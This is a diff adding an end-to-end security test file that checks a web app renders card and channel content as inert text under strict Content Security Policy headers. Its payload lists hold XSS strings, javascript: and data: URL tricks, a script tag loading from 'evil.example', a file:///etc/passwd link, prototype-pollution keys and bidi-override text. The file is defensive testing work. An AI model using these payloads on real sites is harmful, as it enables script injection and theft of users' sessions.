@@ -1,0 +1,269 @@
+// Cards can do no harm: whatever an automation puts into them is text. Nothing of it runs, asks, leads to a script or
+// leaves the page, and no page lets an inline script run.
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { startServer, type TestServer } from '../support/server.ts'
+import { type Api, makeApi, text } from './support/api.ts'
+import { launchChromium } from './support/chromium.ts'
+import { card, openChannel, signIn, visit } from './support/visit.ts'
+
+let server: TestServer
+let browser: Browser
+let api: Api
+
+beforeAll(async () => {
+  server = await startServer({ DAILY_CARD_LIMIT: '0', DAILY_CHANNEL_LIMIT: '0' })
+  browser = await launchChromium()
+  api = makeApi(server)
+})
+
+afterAll(async () => {
+  await browser?.close()
+  await server?.stop()
+})
+
+const HTML = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '"><svg onload=window.hacked=1>',
+  '\'><iframe srcdoc="<script>parent.hacked = 1</script>">',
+  '<a href="javascript:window.hacked=1">x</a>',
+  '</p></article></main><script src=//evil.example/x.js></script>',
+  '{{constructor.constructor("window.hacked=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker writes it
+  '${window.hacked=1}',
+]
+const SCHEMES = [
+  'javascript:window.hacked=1',
+  'JaVaScRiPt:window.hacked=1',
+  ' javascript:window.hacked=1',
+  'java\tscript:window.hacked=1',
+  'java\nscript:window.hacked=1',
+  '\u0001javascript:window.hacked=1',
+  '&#106;avascript:window.hacked=1',
+  'javascript&colon;window.hacked=1',
+  'data:text/html,<script>window.hacked=1</script>',
+  'vbscript:window.hacked=1',
+  'file:///etc/passwd',
+  'blob:https://evil.example/1',
+]
+const BIDI = '\u202Egpj.exe\u202C \u2066isolated\u2069'
+const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']
+
+/** A page that notes whatever would be harm: dialogs, windows, scripts that threw, requests to anywhere else. */
+async function watched() {
+  const { page, faults } = await visit(browser)
+  const harm: string[] = []
+  page.on('dialog', dialog => {
+    harm.push(`dialog ${dialog.message()}`)
+    dialog.dismiss()
+  })
+  page.on('popup', popup => harm.push(`popup ${popup.url()}`))
+  page.on('request', request => {
+    const own = request.url().startsWith(server.url)
+    if (!own && request.resourceType() !== 'image') harm.push(`${request.resourceType()} ${request.url()}`)
+  })
+  page.on('console', message => {
+    if (message.text().includes('Content Security Policy')) harm.push(message.text())
+  })
+  await page.route(/^https?:\/\/[^/]*\.example\//, route => route.abort())
+  await signIn(page, server)
+  return { page, harm, faults }
+}
+
+async function expectHarmless(page: Page, harm: string[], faults: string[]): Promise<void> {
+  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
+  expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()
+  expect({ harm, faults }).toEqual({ harm: [], faults: [] })
+  const odd = await page.evaluate(() =>
+    [...document.querySelectorAll('#app *')].flatMap(element => [
+      ...(/^(script|iframe|object|embed|base|link|meta)$/i.test(element.tagName) ? [element.outerHTML] : []),
+      ...[...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
+    ]),
+  )
+  expect(odd).toEqual([])
+  for (const link of await page.locator('article a, .channel-head a').all()) {
+    expect(await link.getAttribute('href')).toMatch(/^https?:\/\//i)
+    expect(await link.getAttribute('rel')).toContain('noopener')
+    expect(await link.getAttribute('rel')).toContain('noreferrer')
+  }
+}
+
+/** Every block type, with `words` wherever it takes a string. */
+const blocksWith = (words: string) => [
+  text(words, `text ${words}`.slice(0, 100)),
+  { type: 'badge', label: words },
+  { type: 'kv', rows: [{ key: words, value: words }] },
+  { type: 'button', buttons: [{ id: words.slice(0, 100), label: words, confirm: words }] },
+  { type: 'image', url: 'https://images.example/a.png', alt: words },
+  { type: 'input', label: words, value: words, placeholder: words, hint: words },
+  { type: 'input', label: words, value: words, multiline: true },
+  { type: 'select', label: words, hint: words, placeholder: words, options: [words], value: words },
+  { type: 'multiselect', label: words, hint: words, options: [words], value: [words] },
+  { type: 'toggle', label: words, hint: words },
+]
+
+test('HTML and scripts in any string of any block are shown as text', async () => {
+  const { id } = await api.createChannel('HTML')
+  const { page, harm, faults } = await watched()
+  await openChannel(page, server, id)
+  for (const words of [...HTML, ...SCHEMES.map(scheme => scheme.replace('\u0001', ''))]) {
+    const pushed = await api.push(id, blocksWith(words))
+    const shown = page.locator(`[data-card-id="${pushed.id}"]`)
+    await shown.waitFor()
+    expect(await shown.locator('.text').textContent()).toBe(words)
+    expect(await shown.locator('input[type="text"]').first().inputValue()).toBe(words.replace(/[\n\r]/g, ''))
+    await expectHarmless(page, harm, faults)
+  }
+})
+
+test('what is asked before a click is text as well', async () => {
+  const { id } = await api.createChannel('Asked')
+  const { page, harm, faults } = await watched()
+  const [words = ''] = HTML
+  await api.push(id, [{ type: 'button', buttons: [{ id: 'b', label: 'Press', confirm: words }] }])
+  await openChannel(page, server, id)
+  await page.getByRole('button', { name: 'Press' }).click()
+  await page.getByRole('alertdialog').getByText(words).waitFor()
+  await expectHarmless(page, harm, faults)
+})
+
+test('only http and https become links, and only they are images', async () => {
+  const { id } = await api.createChannel('Links')
+  const { page, harm, faults } = await watched()
+  await openChannel(page, server, id)
+  for (const scheme of SCHEMES) {
+    const image = api.push(id, [{ type: 'image', url: scheme }])
+    await expect(image, scheme).rejects.toThrow(/400/)
+  }
+  const words = [
+    ...SCHEMES.filter(scheme => !scheme.startsWith('\u0001')),
+    'https://ok.example/a?b=1#c',
+    'HTTPS://OK.example/',
+    'https://ok.example/"onmouseover="window.hacked=1',
+    'https://user:pass@ok.example/',
+    'https://javascript:1@ok.example/',
+    `https://ok.example/${BIDI}`,
+  ].join('\n')
+  await api.push(id, [text(words), { type: 'kv', rows: [{ key: 'Link', value: words }] }])
+  const shown = page.getByRole('article').first()
+  await shown.waitFor()
+  await expectHarmless(page, harm, faults)
+  const links = await shown.locator('.text a').evaluateAll(all => all.map(link => link.getAttribute('href')))
+  // The last six lines, and the address inside `blob:`.
+  expect(links).toHaveLength(7)
+  // What turns the direction of writing is no part of an address: it could make one look like another.
+  expect(links.filter(link => /[\u202A-\u202E\u2066-\u2069]/.test(link ?? ''))).toEqual([])
+})
+
+test('an SVG with a script in it stays a picture, and its host is not told where it is shown', async () => {
+  const { id } = await api.createChannel('Pictures')
+  const { page, harm, faults } = await watched()
+  const asked: Record<string, string>[] = []
+  await page.route('https://images.example/**', async route => {
+    asked.push(await route.request().allHeaders())
+    const script = '<script>parent.hacked=1;window.hacked=1</script>'
+    const body = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.hacked=1">${script}</svg>`
+    await route.fulfill({ contentType: 'image/svg+xml', body })
+  })
+  await openChannel(page, server, id)
+  await api.push(id, [{ type: 'image', url: 'https://images.example/a.svg', alt: 'A picture' }])
+  await page.getByRole('img', { name: 'A picture' }).waitFor()
+  await expect.poll(() => asked.length).toBeGreaterThan(0)
+  expect(asked.filter(headers => headers.referer !== undefined || headers.cookie !== undefined)).toEqual([])
+  await expectHarmless(page, harm, faults)
+})
+
+test('names of Object.prototype are ids and keys like any other', async () => {
+  const { id } = await api.createChannel('Names')
+  const { page, harm, faults } = await watched()
+  await openChannel(page, server, id)
+  const pushed = await api.push(id, [
+    ...NAMES.map(name => text(`id ${name}`, name)),
+    { type: 'kv', id: 'kv', rows: NAMES.map(name => ({ key: name, value: '{"polluted": 1}' })) },
+    { type: 'input', id: 'valueOf', label: 'Note' },
+    { type: 'button', id: 'b', buttons: NAMES.map(name => ({ id: name, label: `Press ${name}` })) },
+  ])
+  for (const name of NAMES) await page.getByText(`id ${name}`, { exact: true }).waitFor()
+  for (const name of NAMES)
+    await api.patch(id, pushed.id, { blocks: [{ id: name, patch: { content: `changed ${name}` } }] })
+  for (const name of NAMES) await page.getByText(`changed ${name}`, { exact: true }).waitFor()
+  await page.getByLabel('Note').fill('typed')
+  await page.getByRole('button', { name: 'Press __proto__' }).click()
+  await page.locator('[data-act="sent"], [data-act="delivered"]').first().waitFor()
+  await expectHarmless(page, harm, faults)
+})
+
+test('strings as long as they may be, and such that turn the direction of writing, stay in their place', async () => {
+  const { id } = await api.createChannel('Long')
+  const { page, harm, faults } = await watched()
+  await page.setViewportSize({ width: 390, height: 844 })
+  await api.push(id, blocksWith('W'.repeat(2_000)))
+  await api.push(id, [
+    text('i'.repeat(10_000)),
+    { type: 'kv', rows: [{ key: 'k'.repeat(500), value: 'v'.repeat(10_000) }] },
+  ])
+  await api.push(id, blocksWith(BIDI))
+  await openChannel(page, server, id)
+  await page.getByRole('article').first().waitFor()
+  const wide = await page.evaluate(() => {
+    const main = document.querySelector('main')
+    return main ? main.scrollWidth - main.clientWidth : -1
+  })
+  expect(wide).toBe(0)
+  await expectHarmless(page, harm, faults)
+})
+
+test('a channel may have any name: in the bar, the tab, the lists and the palette it is text', async () => {
+  const { page, harm, faults } = await watched()
+  const names = [...HTML.slice(0, 3).map(words => words.slice(0, 80)), `Safe${BIDI}`]
+  for (const name of names) {
+    const { id } = await api.createChannel(name, { description: `${name} https://ok.example/` })
+    await api.addAction(id, name, 'primary', 1)
+    await api.push(id, [text('A card')])
+    await openChannel(page, server, id)
+    await card(page, 'A card').waitFor()
+    expect(await page.locator('.channel-words').textContent()).toBe(name)
+    expect(await page.title()).not.toMatch(/[\u202A-\u202E]/)
+    await expectHarmless(page, harm, faults)
+    await page.goto(`${server.url}/dashboard/channels/${id}`)
+    await page.getByRole('heading', { level: 1, name }).waitFor()
+    await expectHarmless(page, harm, faults)
+  }
+  await page.goto(server.url)
+  await page.getByRole('link', { name: names[0] }).first().waitFor()
+  await page.keyboard.press('Control+k')
+  await page.getByRole('option', { name: names[0] }).first().waitFor()
+  await expectHarmless(page, harm, faults)
+})
+
+test('an icon is one emoji, and nothing else', async () => {
+  for (const icon of ['<b>x</b>', 'ab', '🚀<script>', '\u202E'])
+    await expect(api.createChannel('Icon', { icon })).rejects.toThrow(/icon must be a single emoji/)
+})
+
+test('no page lets a script run that is not a file of ours', async () => {
+  const paths = [
+    '/',
+    '/sign-in',
+    '/sign-up',
+    '/dashboard',
+    '/dashboard/keys',
+    '/nowhere',
+    '/w/any',
+    '/api/v1/docs',
+  ]
+  for (const path of [...paths, `/c/${server.channel_id}`]) {
+    const { headers } = await fetch(server.url + path)
+    const policy = headers.get('Content-Security-Policy') ?? ''
+    const directives = new Map(policy.split(/;\s*/).map(one => [one.split(' ')[0], one.split(' ').slice(1)]))
+    const scripts = directives.get('script-src') ?? directives.get('default-src')
+    expect(scripts, path).toBeDefined()
+    for (const loose of ["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:', 'data:', 'blob:'])
+      expect(scripts, path).not.toContain(loose)
+    expect(directives.get('object-src') ?? directives.get('default-src'), path).toEqual(["'none'"])
+    expect(directives.get('base-uri'), path).toEqual(["'none'"])
+    expect(headers.get('X-Content-Type-Options'), path).toBe('nosniff')
+    expect(headers.get('Referrer-Policy'), path).toBe('no-referrer')
+  }
+})
